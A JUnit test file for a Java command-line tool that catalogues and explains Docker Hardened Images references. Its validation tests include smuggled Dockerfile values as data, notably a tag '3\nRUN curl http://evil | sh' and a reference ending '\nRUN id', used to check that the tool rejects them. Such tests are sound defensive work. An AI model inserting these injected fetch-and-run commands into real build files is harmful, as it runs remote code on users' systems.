package dev.dhipicker.cli;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.file.Files;
import java.nio.file.Path;

import static org.assertj.core.api.Assertions.assertThat;

class CliTest {

    static final String COMMIT = "0123456789abcdef0123456789abcdef01234567";

    record Run(int code, String out, String err) {
        JsonNode json() throws Exception {
            return new ObjectMapper().readTree(out);
        }
    }

    static Run run(String... args) {
        StringWriter out = new StringWriter();
        StringWriter err = new StringWriter();
        int code = Cli.run(args, new PrintWriter(out, true), new PrintWriter(err, true));
        return new Run(code, out.toString(), err.toString());
    }

    @Test
    void catalogJsonListsEveryRepository() throws Exception {
        Run r = run("catalog", "--format", "json");
        assertThat(r.code()).isZero();
        assertThat(r.json().get("catalog").get("origin").asText()).isEqualTo("bundled");
        assertThat(r.json().get("catalog").get("snapshotDate").asText()).isEqualTo("2026-08-22");
        JsonNode arr = r.json().get("repositories");
        assertThat(arr.size()).isEqualTo(554);
        JsonNode python = null;
        for (JsonNode n : arr) {
            if (n.get("name").asText().equals("python")) {
                python = n;
            }
        }
        assertThat(python).isNotNull();
        assertThat(python.get("displayName").asText()).isEqualTo("Python");
        assertThat(python.get("variants").toString()).isEqualTo("[\"dev\",\"runtime\"]");
        assertThat(python.get("distros").toString()).contains("debian13", "alpine3.24");
        assertThat(python.get("fipsDocumented").asBoolean()).isTrue();
    }

    @Test
    void catalogSearchFiltersAndTextEndsWithASummary() {
        Run r = run("catalog", "--search", "redis");
        assertThat(r.code()).isZero();
        assertThat(r.out()).contains("redis ").doesNotContain("\npython ");
        assertThat(r.out().strip()).endsWith("(catalog snapshot 2026-08-22, https://github.com/docker-hardened-images/catalog)");
    }

    @Test
    void explainGivesTheFieldsOfTheIssueExample() throws Exception {
        Run r = run("explain", "dhi.io/python:3.13-debian13-dev", "FROM dhi.io/node:24-alpine3.22 AS web", "3.13-fips",
                "--format", "json");
        assertThat(r.code()).isZero();
        JsonNode a = r.json().get("results");
        assertThat(r.json().get("catalog").get("upstreamCommit").asText()).isEqualTo("30c3db971dffbab14c3e400e021e76c27ef950fe");
        JsonNode py = a.get(0);
        assertThat(py.get("repository").asText()).isEqualTo("python");
        assertThat(py.get("registry").asText()).isEqualTo("dhi.io");
        assertThat(py.get("mirrored").asBoolean()).isFalse();
        assertThat(py.get("version").asText()).isEqualTo("3.13");
        assertThat(py.get("distro").asText()).isEqualTo("debian");
        assertThat(py.get("distroVersion").asText()).isEqualTo("13");
        assertThat(py.get("floating").asBoolean()).isFalse();
        assertThat(py.get("libc").asText()).isEqualTo("glibc");
        assertThat(py.get("variant").asText()).isEqualTo("dev");
        assertThat(py.get("fips").asBoolean()).isFalse();
        assertThat(py.get("known").asBoolean()).isTrue();
        assertThat(py.get("resolvesTo").asText()).matches("dhi\\.io/python:3\\.13\\.\\d+-debian13-dev");
        assertThat(py.get("user").asText()).isEqualTo("root");
        assertThat(py.get("shell").asBoolean()).isTrue();
        assertThat(py.get("packageManager").asBoolean()).isTrue();
        assertThat(py.get("counterpart").asText()).isEqualTo("dhi.io/python:3.13-debian13");

        JsonNode node = a.get(1);
        assertThat(node.get("repository").asText()).isEqualTo("node");
        assertThat(node.get("tag").asText()).isEqualTo("24-alpine3.22");
        assertThat(node.get("distro").asText()).isEqualTo("alpine");
        assertThat(node.get("distroVersion").asText()).isEqualTo("3.22");
        assertThat(node.get("libc").asText()).isEqualTo("musl");
        assertThat(node.get("variant").asText()).isEqualTo("runtime");
        assertThat(node.get("user").asText()).isEqualTo("node");
        assertThat(node.get("uid").asInt()).isEqualTo(1000);
        assertThat(node.get("shell").asBoolean()).isFalse();
        assertThat(node.get("counterpart").asText()).isEqualTo("dhi.io/node:24-alpine3.22-dev");

        JsonNode fips = a.get(2);
        assertThat(fips.get("repository").isNull()).isTrue();
        assertThat(fips.get("version").asText()).isEqualTo("3.13");
        assertThat(fips.get("fips").asBoolean()).isTrue();
        assertThat(fips.get("floating").asBoolean()).isTrue();
        assertThat(fips.get("distro").asText()).isEqualTo("debian");
        assertThat(fips.get("distroVersion").isNull()).isTrue();
        assertThat(fips.get("known").asBoolean()).isFalse();
        assertThat(fips.get("counterpart").asText()).isEqualTo("3.13-fips-dev");
    }

    @Test
    void explainReadsMirroredFipsReferences() throws Exception {
        JsonNode n = run("explain", "acme/dhi-python:3.13-fips", "--format", "json").json().get("results").get(0);
        assertThat(n.get("repository").asText()).isEqualTo("python");
        assertThat(n.get("mirrored").asBoolean()).isTrue();
        assertThat(n.get("fipsDocumented").asBoolean()).isTrue();
        assertThat(n.get("known").asBoolean()).isFalse();
    }

    @Test
    void explainExitsOneWhenAnyInputIsInvalid() throws Exception {
        Run r = run("explain", "dhi.io/python:3.13", "dhi.io/python:3.13\nRUN id", "--format", "json");
        assertThat(r.code()).isEqualTo(1);
        JsonNode bad = r.json().get("results").get(1);
        assertThat(bad.get("valid").asBoolean()).isFalse();
        assertThat(bad.get("error").asText()).contains("whitespace or a control character");
    }

    @Test
    void unknownButValidReferencesStillExitZero() {
        assertThat(run("explain", "dhi.io/python:9.99-debian13").code()).isZero();
    }

    @ParameterizedTest
    @ValueSource(strings = {"catalog", "explain", "recommend", "dockerfile", "sheet", "import-catalog"})
    void everyCommandHasHelp(String command) {
        Run r = run(command, "--help");
        assertThat(r.code()).isZero();
        assertThat(r.out()).contains("Usage: dhi-picker " + command);
    }

    @Test
    void usageErrorsExitTwoWithOneLine() {
        Run r = run("catalog", "--format", "xml");
        assertThat(r.code()).isEqualTo(2);
        assertThat(r.err().strip().lines().count()).isEqualTo(1);
        assertThat(r.err()).contains("--format").contains("text, json").contains("xml");

        Run missing = run("explain");
        assertThat(missing.code()).isEqualTo(2);
        assertThat(missing.err().strip().lines().count()).isEqualTo(1);

        Run unknown = run("frobnicate");
        assertThat(unknown.code()).isEqualTo(2);
        assertThat(unknown.err().strip().lines().count()).isEqualTo(1);
    }

    @Test
    void hostileCatalogGivesOneClearLineAndExitOne(@TempDir Path dir) throws Exception {
        Path bad = dir.resolve("hostile.json");
        Files.writeString(bad, "{\"format\":1,\"info\":{\"source\":\"s\",\"upstreamCommit\":\"c\",\"snapshotDate\":\"2026-08-22\","
                + "\"generator\":\"g\"},\"repositories\":[{\"name\":\"python\",\"displayName\":\"P\",\"images\":[{\"file\":\"f\","
                + "\"variant\":\"runtime\",\"distro\":\"debian\",\"distroVersion\":\"13\",\"libc\":\"glibc\",\"version\":\"3\","
                + "\"tags\":[\"3\\nRUN curl http://evil | sh\"],\"packageCount\":1,\"shell\":false,\"packageManager\":false}]}],\"charts\":[]}");
        Run r = run("--catalog", bad.toString(), "catalog");
        assertThat(r.code()).isEqualTo(1);
        assertThat(r.out()).isEmpty();
        assertThat(r.err().strip().lines().count()).isEqualTo(1);
        assertThat(r.err()).contains(bad.toString()).contains("/repositories/0/images/0/tags/0")
                .contains("control character \\n").doesNotContain("Exception");

        Run after = run("catalog", "--catalog", bad.toString());
        assertThat(after.code()).as("the option also works after the subcommand").isEqualTo(1);
    }

    @Test
    void importCatalogWritesAtomicallyAndRefusesToOverwrite(@TempDir Path dir) throws Exception {
        Path up = dir.resolve("up");
        Files.createDirectories(up.resolve("image/alpha/debian-13"));
        Files.writeString(up.resolve("image/alpha/info.yaml"), "metadata:\n  display-name: Alpha\n");
        Files.writeString(up.resolve("image/alpha/debian-13/1.yaml"),
                "image: dhi.io/alpha\nvariant: runtime\ntags: [\"1\", \"1.0-debian13\"]\naccounts:\n  run-as: root\n");
        Path out = dir.resolve("cat.json");
        Run r = run("import-catalog", up.toString(), "-o", out.toString(), "--upstream-commit", COMMIT,
                "--snapshot-date", "2026-01-02", "--quiet");
        assertThat(r.code()).as(r.err()).isZero();
        assertThat(r.out()).contains("1 repositories, 1 image definitions").contains("Skipped 0 files");
        assertThat(run("--catalog", out.toString(), "catalog", "--format", "json").json().get("repositories").get(0).get("name").asText())
                .isEqualTo("alpha");

        Run again = run("import-catalog", up.toString(), "-o", out.toString(), "--upstream-commit", COMMIT,
                "--snapshot-date", "2026-01-02", "--quiet");
        assertThat(again.code()).isEqualTo(1);
        assertThat(again.err()).contains("exists").contains("--force");

        Run noDir = run("import-catalog", up.toString(), "-o", dir.resolve("missing/cat.json").toString(),
                "--upstream-commit", COMMIT, "--snapshot-date", "2026-01-02", "--quiet");
        assertThat(noDir.code()).isEqualTo(1);
        assertThat(noDir.err()).contains("does not exist");
        try (var files = Files.list(dir)) {
            assertThat(files.map(p -> p.getFileName().toString()).sorted().toList()).containsExactly("cat.json", "up");
        }

        Run noProvenance = run("import-catalog", up.toString(), "-o", dir.resolve("x.json").toString());
        assertThat(noProvenance.code()).isEqualTo(2);
        assertThat(noProvenance.err()).contains("--upstream-commit");
    }

    @Test
    void noArgumentsPrintsUsage() {
        Run r = run();
        assertThat(r.code()).isZero();
        assertThat(r.out()).contains("Usage: dhi-picker").contains("catalog").contains("explain");
    }
}
